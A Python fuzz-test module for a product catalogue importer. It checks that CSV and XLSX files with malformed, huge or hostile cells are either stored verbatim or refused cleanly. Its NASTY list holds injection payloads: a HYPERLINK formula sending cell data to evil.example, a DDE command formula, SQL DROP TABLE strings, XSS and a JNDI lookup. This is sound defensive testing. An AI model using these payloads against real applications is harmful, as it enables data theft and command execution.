"""Item 6: product import files from a fuzzer (hypothesis, derandomized).

CSV and XLSX files with random, wrong-typed, huge, formula-like and injection-like cells,
and files that are not what their name says. Every import either succeeds or raises a
`JxcError` with a message in both languages; a refused import changes nothing; an accepted
one stores every name exactly as written (spaces folded), so a formula or an SQL fragment
is data, never executed. (Text starting with = + - @ is stored as written by design, see
app/services/catalog_import: whoever exports it must neutralise it for spreadsheets.)
"""
from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import datetime

from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.utils.exceptions import IllegalCharacterError
from sqlalchemy import text

import invariants
from app.domain.errors import JxcError

EXAMPLES = int(os.environ.get("JXC_FUZZ_EXAMPLES", "30"))
FUZZ = settings(max_examples=EXAMPLES, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])
HEADER = ["sku", "name", "barcode", "unit", "retail_price", "category", "costing",
          "shelf_life_days", "tax_rate", "supplier"]
NASTY = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "=1+2", "+cmd|' /C calc'!A0",
         "-2+3", "@SUM(A1:A2)", "'; DROP TABLE products; --", "Robert'); DROP TABLE products;--",
         "<script>alert(1)</script>", "${jndi:ldap://x/a}", "\t=1+1", "%s%s%n", "NULL", "../../x"]
WORDS = st.one_of(st.text(max_size=20), st.sampled_from(NASTY),
                  st.sampled_from(["可乐", "瓶", "3.50", "13%", "fifo", "average", "365", "S01",
                                   "饮料/碳酸饮料", "6901234567892", "", " "]),
                  st.integers(1, 3).map(lambda n: "长" * (60 * n)))  # 60, 120, 180 chars
HUGE = st.sampled_from([10_000, 40_000, 140_000]).map(lambda n: "大" * n)
NAMES = st.one_of(st.sampled_from(NASTY),
                  st.text(st.characters(exclude_categories=["Cc", "Cs"]), min_size=1, max_size=40))
VALID = ["", "", "", "瓶", "3.50", "饮料/碳酸饮料", "fifo", "365", "13%", "S01"]  # after sku, name


@st.composite
def product_rows(draw, garbage=st.one_of(WORDS, HUGE)):
    """Rows that would import, with a nasty name; some with one column replaced by garbage."""
    skus = draw(st.lists(st.from_regex(r"[A-Z][A-Z0-9]{0,7}", fullmatch=True), min_size=1,
                         max_size=4, unique=True))
    rows = []
    for sku in skus:
        row = [sku, draw(NAMES), *VALID[2:]]
        if draw(st.integers(0, 2)) == 0:
            row[draw(st.integers(0, len(HEADER) - 1))] = draw(garbage)
        rows.append(row)
    return rows


def import_and_check(store, admin, path, rows: list[list]) -> bool:
    """Whether the file was imported (checked), else refused (checked too)."""
    from app.services.catalog_import import import_products

    before = invariants.fingerprint(store)
    try:
        result = import_products(store, admin, path)
    except JxcError as exc:
        assert exc.message("en") and exc.message("zh_CN")
        assert invariants.fingerprint(store) == before, "refused, but something was written"
        event(f"refused: {type(exc).__name__}")
        return False
    event("imported")
    assert result.rows <= len(rows)
    with store.engine.connect() as conn:
        names = dict(conn.execute(text("SELECT sku, name FROM products")).all())
    for row in rows:
        if not (isinstance(row[0], str) and isinstance(row[1], str)) or not row[0].strip():
            continue  # a blank row is skipped; other cell types become Excel's text
        sku, name = row[0].strip(), " ".join(row[1].split())
        assert names.get(sku) == name, f"{sku!r}: stored {names.get(sku)!r}, file {name!r}"
    return True


@FUZZ
@given(rows=product_rows(), tabs=st.booleans(),
       encoding=st.sampled_from(["utf-8-sig", "gb18030", "utf-16"]))
def test_a_fuzzed_csv_is_imported_exactly_or_refused_cleanly(open_shop, admin, tmp_path_factory,
                                                             rows, tabs, encoding):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter="\t" if tabs else ",").writerows([HEADER, *rows])
    try:
        data = buffer.getvalue().encode(encoding)
    except UnicodeEncodeError:
        data = buffer.getvalue().encode("utf-8-sig")
    path = tmp_path_factory.mktemp("csv") / "products.csv"
    path.write_bytes(data)
    import_and_check(open_shop, admin, path, rows)


CELLS = st.one_of(WORDS, st.integers(-10**20, 10**20), st.floats(allow_nan=False),
                  st.booleans(), st.none(), st.datetimes(min_value=datetime(1900, 3, 1)))


@FUZZ
@given(rows=product_rows(st.one_of(CELLS, HUGE.map(lambda s: s[:30_000]))))
def test_a_fuzzed_workbook_is_imported_exactly_or_refused_cleanly(open_shop, admin,
                                                                  tmp_path_factory, rows):
    book = Workbook()
    try:
        for row in [HEADER, *rows]:
            book.active.append(row)  # a text starting with "=" becomes a real formula here
    except IllegalCharacterError:
        return  # openpyxl cannot write control characters: Excel could not either
    path = tmp_path_factory.mktemp("xlsx") / "products.xlsx"
    book.save(path)
    if import_and_check(open_shop, admin, path, rows):
        # then no cell was a formula (openpyxl saves them without a cached value: refused)
        assert not any(isinstance(c, str) and c.startswith("=") for row in rows for c in row)


def _damaged_files():
    good = io.BytesIO()
    Workbook().save(good)
    xlsx = good.getvalue()
    broken_xml = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(broken_xml, "w") as out:
        for item in src.infolist():
            body = src.read(item)
            out.writestr(item, body[: len(body) // 2] if item.filename.endswith("sheet1.xml")
                         else body)
    return [("truncated.xlsx", xlsx[: len(xlsx) // 2]), ("half-sheet.xlsx", broken_xml.getvalue()),
            ("zip-bomb-ish.xlsx", b"PK\x03\x04" + bytes(5000)), ("random.csv", os.urandom(3000)),
            ("nul.csv", b"sku,name\x00\n\x00\x00"), ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
            ("empty.csv", b""), ("header-only.csv", ",".join(HEADER).encode()),
            ("image.png", b"\x89PNG\r\n\x1a\n" + bytes(100)), ("csv-as.xlsx", b"sku,name\nA,b\n")]


def test_files_that_are_not_product_lists_are_refused_cleanly(open_shop, admin, tmp_path):
    from app.services.catalog_import import import_products

    before = invariants.fingerprint(open_shop)
    for name, data in _damaged_files():
        path = tmp_path / name
        path.write_bytes(data)
        try:
            import_products(open_shop, admin, path)
        except JxcError as exc:
            assert exc.message("en") and exc.message("zh_CN"), name
        else:
            raise AssertionError(f"{name} was imported")
        assert invariants.fingerprint(open_shop) == before, name
